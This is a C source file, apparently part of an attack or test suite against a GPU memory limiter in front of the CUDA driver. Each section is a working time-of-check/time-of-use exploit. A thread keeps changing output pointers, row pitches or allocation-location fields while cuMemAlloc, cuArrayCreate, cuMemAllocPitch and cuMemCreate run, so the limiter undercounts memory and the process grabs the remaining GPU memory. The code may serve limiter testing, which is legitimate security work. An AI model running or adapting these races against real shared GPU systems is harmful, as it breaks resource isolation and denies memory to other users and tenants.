/* What calls are asked for and what they answer, changed by another thread while the limiter and the driver look at it.
 */
#include "memory.h"

#define TRIES      2000
#define CONFUSE_NS 6000000000ull /* a card takes 60 ms and more for each of those that end with a context */

/* Changes something again and again, in a thread of its own. */
static void *change(void *by)
{
    for (;;)
        ((void (*)(void))by)();
    return NULL;
}

static void begin_to_change(void (*by)(void))
{
    pthread_t thread;
    must(pthread_create(&thread, NULL, change, (void *)by), "pthread_create");
}

static size_t left(void)
{
    size_t free, total;
    must(cu.info(&free, &total), "cuMemGetInfo");
    return free;
}

static void take_what_is_left(void)
{
    uint64_t pointer;
    for (unsigned i = 0; i < times(BLOCK) && cu.allocate(&pointer, BLOCK) == 0; i++) {
    }
}

/* Where the driver writes the name of what it made stands that of something larger. */
static volatile uint64_t name;
static _Atomic uint64_t another;
static void name_another(void)
{
    name = atomic_load_explicit(&another, memory_order_relaxed);
}

/* Until the larger one is given back for one of those that were made after it. */
static void confuse(uint64_t (*make_larger)(void), void (*make)(void))
{
    open_card();
    uint64_t since = now_ns();
    for (unsigned i = 0; i < TRIES / 10 && now_ns() - since < CONFUSE_NS; i++) {
        size_t before = left() / 2;
        another = make_larger();
        if (i == 0)
            begin_to_change(name_another);
        for (unsigned made = 0; made < 8; made++)
            make();
        if (left() > before)
            break;
        must((int)CU(cuDevicePrimaryCtxReset_v2)(0), "cuDevicePrimaryCtxReset");
        must(cu.retain(&cu.context, 0), "cuDevicePrimaryCtxRetain");
        must(cu.set(cu.context), "cuCtxSetCurrent");
    }
    take_what_is_left();
}

static uint64_t larger_block(void)
{
    uint64_t pointer;
    must(cu.allocate(&pointer, attack_number("ATTACK_MEMORY") / 2), "cuMemAlloc");
    return pointer;
}

static void block_of_any_name(void)
{
    cu.allocate((uint64_t *)&name, BLOCK);
}

PART(names_of_blocks, "names of blocks")
{
    confuse(larger_block, block_of_any_name);
}

static CUresult array_of(size_t blocks, CUarray *array)
{
    CUDA_ARRAY_DESCRIPTOR shape = {
        .Width = 1024, .Height = 512 * blocks, .Format = CU_AD_FORMAT_FLOAT, .NumChannels = 1};
    return CU(cuArrayCreate_v2)(array, &shape);
}

static uint64_t larger_array(void)
{
    CUarray array;
    must((int)array_of(attack_number("ATTACK_MEMORY") / 2 / BLOCK, &array), "cuArrayCreate");
    return (uintptr_t)array;
}

static void array_of_any_name(void)
{
    array_of(1, (CUarray *)&name);
}

PART(names_of_arrays, "names of arrays")
{
    confuse(larger_array, array_of_any_name);
}

/* Rows that are long for the driver and short for the limiter. */
static void shorten_rows(void)
{
    name = 0;
}

PART(rows, "lengths of rows")
{
    CUdeviceptr pointer;
    open_card();
    begin_to_change(shorten_rows);
    for (unsigned i = 0, had = 0; i < TRIES && had < 8; i++) {
        size_t before = left();
        if (CU(cuMemAllocPitch_v2)(&pointer, (size_t *)&name, 512, 8 * BLOCK / 512, 4) != CUDA_SUCCESS)
            break;
        if (before - left() < 8 * BLOCK)
            had++;
        else
            cu.release(pointer);
    }
    take_what_is_left();
}

/* A block of the host that is one of the card when the driver looks. */
static CUmemAllocationProp asked;
static void move(void)
{
    static unsigned moves;
    *(volatile CUmemLocationType *)&asked.location.type = CU_MEM_LOCATION_TYPE_DEVICE;
    for (volatile unsigned i = moves++ % 64; i > 0; i--) {
    }
    *(volatile CUmemLocationType *)&asked.location.type = CU_MEM_LOCATION_TYPE_HOST_NUMA;
}

PART(places, "places of blocks")
{
    CUmemGenericAllocationHandle handle;
    CUmemAllocationProp got;
    open_card();
    asked = on_card();
    begin_to_change(move);
    for (unsigned i = 0, had = 0; i < 10 * TRIES && had < times(BLOCK); i++) {
        if (CU(cuMemCreate)(&handle, BLOCK, &asked, 0) != CUDA_SUCCESS)
            continue;
        must((int)CU(cuMemGetAllocationPropertiesFromHandle)(&got, handle), "cuMemGetAllocationPropertiesFromHandle");
        if (got.location.type == CU_MEM_LOCATION_TYPE_DEVICE)
            had++;
        else
            CU(cuMemRelease)(handle);
    }
}

int main(void)
{
    run_parts();
}
